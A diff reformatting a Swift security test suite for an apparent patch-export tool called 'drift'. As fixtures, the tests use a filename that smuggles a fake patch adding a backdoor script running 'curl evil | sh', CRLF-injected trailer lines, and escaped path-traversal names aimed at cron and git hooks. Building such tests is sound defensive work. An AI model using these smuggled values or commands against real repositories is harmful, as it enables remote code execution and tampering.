@@ -18,15 +18,18 @@ struct TrustBoundaryTests {
         let spell = "\n---\n\ndiff --git a/app/backdoor.sh b/app/backdoor.sh\nnew file mode 100755\n--- /dev/null\n"
             + "+++ b/app/backdoor.sh\n@@ -0,0 +1 @@\n+curl evil | sh\n"
         #expect(makeFile(root: ws.root, Array(("packages/models/v2" + spell + "/w.bin").utf8), [0x31]))
-        #expect(makeFile(root: ws.root, Array(("worker/h" + spell.replacingOccurrences(of: "/", with: "\u{2215}")).utf8),
+        #expect(makeFile(root: ws.root,
+                         Array(("worker/h" + spell.replacingOccurrences(of: "/", with: "\u{2215}")).utf8),
                          Array("x = 1\n".utf8)))
         let out = w.dir.sub("out")
         let ex = try w.run(["export", "--output", out], ws)
         try #require(ex.code == 0, "\(ex.err)")
         let clone = w.dir.sub("clone")
-        try sh("git clone -q '\(w.upstream)' '\(clone)' && cd '\(clone)' && git checkout -q HEAD~1 && git am -q '\(out)/drift.patch'")
+        try sh("git clone -q '\(w.upstream)' '\(clone)' && cd '\(clone)'"
+               + " && git checkout -q HEAD~1 && git am -q '\(out)/drift.patch'")
         #expect(!FileManager.default.fileExists(atPath: clone + "/app/backdoor.sh"))
-        #expect(Trailers(try sh("git -C '\(clone)' log -1 --format=%B")).values("Drift-Id") == [Self.exportID(ex) ?? "?"])
+        #expect(Trailers(try sh("git -C '\(clone)' log -1 --format=%B")).values("Drift-Id")
+                == [Self.exportID(ex) ?? "?"])
         let diff = try w.run(["diff"], ws)
         let applied = w.dir.sub("applied")
         try sh("git clone -q '\(w.upstream)' '\(applied)' && git -C '\(applied)' checkout -q HEAD~1")
@@ -45,10 +48,12 @@ struct TrustBoundaryTests {
         try sh("echo 'B = 2' >> worker/main.py", cwd: wsB.root)
         let idB = try #require(Self.exportID(try w.run(["export", "--output", ledger + "/b"], wsB, host: "node-b")))
         let wsA = try w.workspace("a")
-        #expect(makeFile(root: wsA.root, Array("worker/q\r\nDrift-Id: \(idB)\r\nDrift-Host: node-b\r\nz.py".utf8), [0x23, 0x0A]))
+        #expect(makeFile(root: wsA.root, Array("worker/q\r\nDrift-Id: \(idB)\r\nDrift-Host: node-b\r\nz.py".utf8),
+                         [0x23, 0x0A]))
         try #require(try w.run(["export", "--output", ledger + "/a"], wsA).code == 0)
         let up = w.dir.sub("up")
-        try sh("git clone -q '\(w.upstream)' '\(up)' && cd '\(up)' && git checkout -q -b rev HEAD~1 && git am -q '\(ledger)/a/drift.patch'")
+        try sh("git clone -q '\(w.upstream)' '\(up)' && cd '\(up)'"
+               + " && git checkout -q -b rev HEAD~1 && git am -q '\(ledger)/a/drift.patch'")
         let g = try drift(["gate", "--repo", up, "--ledger", ledger, "--commit", "rev"])
         #expect(g.code == 1, "\(g.out)\(g.err)")
         #expect(g.out.contains("MISSING  drift \(idB) from node-b"), "\(g.out)")
@@ -70,10 +75,12 @@ struct TrustBoundaryTests {
             .filter { ($0["flags"] as? [String])?.contains("suspicious-name") == true }
         #expect(flagged.count == 2, "\(json.out)")
         let status = try w.run(["status"], ws)
-        let gate = try drift(["gate", "--repo", w.upstream, "--ledger", ledger, "--commit", "HEAD~1"], env: ["GITHUB_ACTIONS": "true"])
+        let gate = try drift(["gate", "--repo", w.upstream, "--ledger", ledger, "--commit", "HEAD~1"],
+                             env: ["GITHUB_ACTIONS": "true"])
         #expect(gate.code == 1)
         for r in [text, json, status, gate] { #expect(rawControlLines(r.out + r.err).isEmpty, "\(r.out)") }
-        #expect(gate.out.split(separator: "\n").filter { $0.hasPrefix("::") }.allSatisfy { $0.hasPrefix("::error file=") })
+        #expect(gate.out.split(separator: "\n").filter { $0.hasPrefix("::") }
+            .allSatisfy { $0.hasPrefix("::error file=") })
     }
 
     @Test("2: a Drift-Id line outside the trailer block, or on a commit outside REV, reconciles nothing")
@@ -89,7 +96,8 @@ struct TrustBoundaryTests {
         let body = "docs: notes\n\nDrift-Id: \(id)\n\nThe line above is prose, not a trailer.\n"
         try Data(body.utf8).write(to: URL(fileURLWithPath: w.dir.sub("msg")))
         try sh("git commit -q --allow-empty -F '\(w.dir.sub("msg"))'", cwd: up)
-        try sh("git checkout -q -b side && git commit -q --allow-empty -m 'side' -m 'Drift-Id: \(id)' && git checkout -q main", cwd: up)
+        try sh("git checkout -q -b side && git commit -q --allow-empty -m 'side' -m 'Drift-Id: \(id)'"
+               + " && git checkout -q main", cwd: up)
         let g = try drift(["gate", "--repo", up, "--ledger", ledger])
         #expect(g.code == 1, "\(g.out)")
         let onSide = try drift(["gate", "--repo", up, "--ledger", ledger, "--commit", "side"])
@@ -107,7 +115,8 @@ struct TrustBoundaryTests {
         let rootfs = w.dir.sub("rootfs")
         try sh("mkdir -p '\(rootfs)/srv' && cp -a '\(w.base)' '\(rootfs)/srv/app'")
         let mdir = rootfs + "/etc/drift"
-        let bake = try drift(["manifest", "create", "--root", rootfs + "/srv/app", "--repo", w.upstream, "--commit", "HEAD~1",
+        let bake = try drift(["manifest", "create", "--root", rootfs + "/srv/app", "--repo", w.upstream,
+                              "--commit", "HEAD~1",
                               "--sign-key", k, "--output", mdir])
         try #require(bake.code == 0, "\(bake.err)")
         let v = try run(["openssl", "pkeyutl", "-verify", "-pubin", "-inkey", pub, "-rawin",
@@ -137,7 +146,8 @@ struct TrustBoundaryTests {
         var ids: [String] = []
         for (n, value) in ["4821", "4822"].enumerated() {
             let ws = try w.workspace("s\(n)")
-            try sh("printf 'TOKEN=placeholder\\nMINIO_SECRET=\(value)\\n' > .env && echo 'OK = 1' >> worker/util.py", cwd: ws.root)
+            try sh("printf 'TOKEN=placeholder\\nMINIO_SECRET=\(value)\\n' > .env && echo 'OK = 1' >> worker/util.py",
+                   cwd: ws.root)
             let out = w.dir.sub("out\(n)")
             let ex = try w.run(["export", "--output", out], ws)
             ids.append(try #require(Self.exportID(ex)))
@@ -180,7 +190,8 @@ struct TrustBoundaryTests {
             + (try sh("git --git-dir='\(ws.state)/journal.git' grep -I -h -e . refs/heads/journal"))
         let bundle = String(decoding: try readWholeFile(out + "/drift.bundle"), as: UTF8.self)
         for secret in [minio, db] {
-            for (what, text) in [("patch", patch), ("diff", diff.out), ("journal", journal), ("json", json.out), ("bundle", bundle)] {
+            for (what, text) in [("patch", patch), ("diff", diff.out), ("journal", journal), ("json", json.out),
+                                 ("bundle", bundle)] {
                 #expect(!text.contains(secret), "\(what) holds a secret value")
             }
         }
@@ -198,11 +209,13 @@ struct TrustBoundaryTests {
         let good = try readWholeFile(patch)
         let evil = ["\"b/sub/\\056\\056/\\056\\056/etc/cron.d/x\"", "\"b/\\056GiT/hooks/post-checkout\""]
         for name in evil {
-            let tail = "diff --git \(name.replacingOccurrences(of: "\"b/", with: "\"a/")) \(name)\nnew file mode 100644\n"
+            let tail = "diff --git \(name.replacingOccurrences(of: "\"b/", with: "\"a/")) \(name)\n"
+                + "new file mode 100644\n"
                 + "--- /dev/null\n+++ \(name)\n@@ -0,0 +1 @@\n+x\n"
             try Data(good + Array(tail.utf8)).write(to: URL(fileURLWithPath: patch))
             let g = try drift(["gate", "--repo", w.upstream, "--ledger", ledger])
-            #expect(g.code == 2 && g.err.hasPrefix("drift: ledger entry e1: drift.patch names an unsafe path"), "\(g.err)")
+            #expect(g.code == 2 && g.err.hasPrefix("drift: ledger entry e1: drift.patch names an unsafe path"),
+                    "\(g.err)")
         }
         // A removed line "-- x" reads "--- x" in a hunk: content, not a path.
         try Data(good).write(to: URL(fileURLWithPath: patch))
@@ -223,12 +236,14 @@ struct TrustBoundaryTests {
         let rootfs = w.dir.sub("rootfs")
         try sh("mkdir -p '\(rootfs)/srv' && cp -a '\(w.base)' '\(rootfs)/srv/app' && ln -s /etc/ssl '\(rootfs)/srv/out'"
                + " && ln -s app '\(rootfs)/srv/in'")
-        let bake = try drift(["manifest", "create", "--root", rootfs + "/srv/app", "--repo", w.upstream, "--commit", "HEAD~1",
+        let bake = try drift(["manifest", "create", "--root", rootfs + "/srv/app", "--repo", w.upstream,
+                              "--commit", "HEAD~1",
                               "--output", rootfs + "/etc/drift"])
         try #require(bake.code == 0)
         for outside in ["/../../../../etc/ssl", "/srv/out", "srv/app/../../.."] {
             let g = try drift(["gate", "--image-root", rootfs, "--workspace", outside])
-            #expect(g.code == 2 && g.err.hasPrefix("drift: workspace ") && g.out.isEmpty, "\(outside): \(g.out)\(g.err)")
+            #expect(g.code == 2 && g.err.hasPrefix("drift: workspace ") && g.out.isEmpty,
+                    "\(outside): \(g.out)\(g.err)")
         }
         #expect(try drift(["gate", "--image-root", rootfs, "--workspace", "/srv/in"]).code == 0)
     }
